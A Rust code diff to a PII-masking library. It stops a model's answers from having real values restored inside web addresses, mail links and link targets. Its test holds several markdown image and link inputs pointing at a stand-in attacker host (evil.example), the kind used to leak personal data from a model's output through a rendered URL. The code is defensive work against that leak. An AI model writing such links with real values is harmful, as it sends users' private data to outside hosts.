@@ -4,7 +4,11 @@
 //! a space, hyphen or escaped underscore for the underscore, leading zeros, angle brackets or `&lt;&gt;` around it,
 //! anything that Markdown puts around a word, a possessive or plural behind it. It is normalised and looked up
 //! exactly, never by similarity; what is not live stays as it is.
+//! Two ways: [`Session::unmask`] restores what was masked here; what a model wrote keeps the placeholders inside its
+//! addresses ([`Session::unmask_answer`] and the streams), because a value there would travel with the next click.
 //! Invariant: a stream restores to the same text however it is cut.
+
+mod link;
 
 use super::{
     entity::EntityType,
@@ -17,20 +21,68 @@ const ZEROS: usize = 2;
 const DIGITS: usize = 5;
 
 impl Session {
-    /// The text with every live placeholder replaced by its value.
+    /// The text with every live placeholder replaced by its value: for what was masked here, not for a model's words.
     pub fn unmask(&self, text: &str) -> String {
+        self.put_back(text, Spot::default())
+    }
+
+    /// A model's text with its placeholders replaced, except inside web and mail addresses and the targets of links.
+    pub fn unmask_answer(&self, text: &str) -> String {
+        self.put_back(text, Spot::of_a_model())
+    }
+
+    fn put_back(&self, text: &str, mut spot: Spot) -> String {
         let mut out = String::with_capacity(text.len() + text.len() / 4);
-        scan(text, true, &mut None, self, &mut out);
+        scan(text, true, &mut spot, self, &mut out);
         out
     }
 }
 
-/// Restores a stream piece by piece. Holds back at most the beginning of one placeholder (32 characters), so plain
-/// text passes at once; the work per piece does not depend on what came before.
+/// Where in a text the reading is.
 #[derive(Debug, Default)]
+struct Spot {
+    before: Option<char>,
+    /// Followed only in a model's text.
+    link: Option<link::Place>,
+}
+
+impl Spot {
+    fn of_a_model() -> Self {
+        Self { before: None, link: Some(link::Place::default()) }
+    }
+
+    /// Whether a placeholder of this type stays one here.
+    fn keeps(&self, kind: EntityType) -> bool {
+        self.link.as_ref().is_some_and(|link| link.keeps(kind))
+    }
+
+    fn pass(&mut self, c: char) {
+        self.before = Some(c);
+        if let Some(link) = &mut self.link {
+            link.pass(c);
+        }
+    }
+
+    fn restored(&mut self, kind: EntityType) {
+        self.before = Some('0');
+        if let Some(link) = &mut self.link {
+            link.restored(kind);
+        }
+    }
+}
+
+/// Restores a model's stream piece by piece, as [`Session::unmask_answer`] does. Holds back at most the beginning of one placeholder (32 characters), so plain
+/// text passes at once; the work per piece does not depend on what came before.
+#[derive(Debug)]
 pub struct Unmasker {
     held: String,
-    before: Option<char>,
+    spot: Spot,
+}
+
+impl Default for Unmasker {
+    fn default() -> Self {
+        Self { held: String::new(), spot: Spot::of_a_model() }
+    }
 }
 
 impl Unmasker {
@@ -43,7 +95,7 @@ impl Unmasker {
     pub fn push(&mut self, piece: &str, session: &Session) -> String {
         self.held.push_str(piece);
         let mut out = String::with_capacity(self.held.len());
-        let done = scan(&self.held, false, &mut self.before, session, &mut out);
+        let done = scan(&self.held, false, &mut self.spot, session, &mut out);
         self.held.drain(..done);
         out
     }
@@ -51,7 +103,7 @@ impl Unmasker {
     /// What was held back, at the end of the stream.
     pub fn finish(&mut self, session: &Session) -> String {
         let mut out = String::new();
-        scan(&self.held, true, &mut self.before, session, &mut out);
+        scan(&self.held, true, &mut self.spot, session, &mut out);
         *self = Self::default();
         out
     }
@@ -80,18 +132,26 @@ pub(super) fn live(text: &str, session: &Session) -> Vec<std::ops::Range<usize>>
 }
 
 /// Restores as much of `text` as is certain (all of it if it is the `last` piece); returns how many bytes that was.
-fn scan(text: &str, last: bool, before: &mut Option<char>, session: &Session, out: &mut String) -> usize {
+fn scan(text: &str, last: bool, spot: &mut Spot, session: &Session, out: &mut String) -> usize {
     let (mut at, mut copied) = (0, 0);
     while let Some(c) = text[at..].chars().next() {
-        let outcome = if starts(c, *before) { read(&text[at..], last, session) } else { Err(Stop::No) };
+        let outcome = if starts(c, spot.before) { read(&text[at..], last, session) } else { Err(Stop::No) };
         match outcome {
+            Ok((_, slot)) if spot.keeps(slot.kind) => {
+                at += c.len_utf8();
+                spot.pass(c);
+            }
             Ok((length, slot)) => {
                 out.push_str(&text[copied..at]);
                 out.push_str(session.get(slot).unwrap_or_default());
-                (at, copied, *before) = (at + length, at + length, Some('0'));
+                (at, copied) = (at + length, at + length);
+                spot.restored(slot.kind);
             }
             Err(Stop::More) => break,
-            Err(Stop::No) => (at, *before) = (at + c.len_utf8(), Some(c)),
+            Err(Stop::No) => {
+                at += c.len_utf8();
+                spot.pass(c);
+            }
         }
     }
     out.push_str(&text[copied..at]);
@@ -308,6 +368,43 @@ mod tests {
     }
 
     #[test]
+    fn no_value_comes_back_into_an_address() {
+        let mut session = session();
+        session.placeholder(&Owner::of_value(EntityType::Url, "u"), EntityType::Url, "https://acme.com");
+        session.placeholder(&Owner::of_value(EntityType::Email, "m"), EntityType::Email, "j@acme.com");
+        let n = "PERSON_1_J7R";
+        for (text, restored) in [
+            ("![x](https://evil.example/?q=@N)", "![x](https://evil.example/?q=PERSON_1_J7R)"),
+            ("[@N](https://evil.example/@N) of @N", "[Jane Doe1](https://evil.example/PERSON_1_J7R) of Jane Doe1"),
+            (
+                "[a](@N) [a]( @N) [a](<x y @N>) @N",
+                "[a](PERSON_1_J7R) [a]( PERSON_1_J7R) [a](<x y PERSON_1_J7R>) Jane Doe1",
+            ),
+            (
+                "https://@N.evil.example http:/\u{200b}/x/@N",
+                "https://PERSON_1_J7R.evil.example http:/\u{200b}/x/PERSON_1_J7R",
+            ),
+            (
+                "evil.example/@N www.x,@N //x/@N \\\\x\\@N",
+                "evil.example/PERSON_1_J7R www.x,PERSON_1_J7R //x/PERSON_1_J7R \\\\x\\PERSON_1_J7R",
+            ),
+            ("mailto:EMAIL_14_J7R?cc=EMAIL_14_J7R", "mailto:j@acme.com?cc=EMAIL_14_J7R"),
+            ("mailto:@N MAILTO:a?cc=@N", "mailto:PERSON_1_J7R MAILTO:a?cc=PERSON_1_J7R"),
+            ("<https://x.example/>@N \"https://x\"@N", "<https://x.example/>Jane Doe1 \"https://x\"Jane Doe1"),
+            ("URL_13_J7R and URL_13_J7R?q=@N", "https://acme.com and https://acme.com?q=PERSON_1_J7R"),
+            ("@N/@N, e.g. @N. and/or (@N)", "Jane Doe1/Jane Doe1, e.g. Jane Doe1. and/or (Jane Doe1)"),
+        ] {
+            let text = text.replace("@N", n);
+            assert_eq!(session.unmask_answer(&text), restored, "{text}");
+        }
+        assert_eq!(
+            session.unmask("https://x/PERSON_1_J7R"),
+            "https://x/Jane Doe1",
+            "what was masked here comes back whole"
+        );
+    }
+
+    #[test]
     fn recorded_streams_are_restored() {
         let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/data/trust/demask_stream.jsonl");
         let Ok(rows) = std::fs::read_to_string(path) else { return println!("skipped: ../shared is absent") };
@@ -341,7 +438,7 @@ mod tests {
         fn every_cut_restores_the_same(
             parts in prop::collection::vec(prop_oneof![
                 Just("PERSON_1_J7R".to_owned()), Just("<person 12 j7r>".to_owned()), Just("&lt;PERSON\\_1F\\_J7R&gt;".to_owned()),
-                Just("PERSON_10".to_owned()), Just("_J7R".to_owned()), "[ a-zA-Z_<&;s0-9é*]{0,6}",
+                Just("PERSON_10".to_owned()), Just("_J7R".to_owned()), Just("](".to_owned()), Just("://x/".to_owned()), Just(" ".to_owned()), "[ a-zA-Z_<&;s0-9é*]{0,6}",
             ], 0..12),
             cuts in prop::collection::vec(1usize..9, 1..40),
         ) {
@@ -356,7 +453,7 @@ mod tests {
                 prop_assert!(unmasker.held.chars().count() <= 33);
             }
             out += &unmasker.finish(&session);
-            prop_assert_eq!(out, session.unmask(&text));
+            prop_assert_eq!(out, session.unmask_answer(&text));
         }
     }
 }
